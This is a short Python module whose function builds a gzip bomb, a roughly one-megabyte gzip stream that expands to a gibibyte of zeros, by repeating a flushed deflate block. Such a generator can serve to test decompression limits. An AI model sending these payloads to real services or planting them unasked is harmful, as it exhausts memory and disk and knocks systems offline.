"""A gzip bomb: a body of about a megabyte that inflates to a gibibyte of zeros.

Deflate blocks cut with a full flush do not refer to earlier data, so the block of one
MiB of zeros is the same every time: it is made once and repeated, and the gzip trailer
(CRC-32 and size) is computed for the whole. Building it takes well under a second,
instead of compressing a gibibyte.
"""

from __future__ import annotations

import functools
import struct
import zlib

__all__ = ["gzip_bomb"]

MIB = 1024 * 1024


@functools.cache
def gzip_bomb(mib: int = 1024) -> bytes:
    """A valid gzip stream of ``mib`` MiB of zero bytes (about 1 KiB per MiB)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    zeros = bytes(MIB)
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    end = deflate.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + block * mib + end + struct.pack("<II", crc, (mib * MIB) & 0xFFFFFFFF)
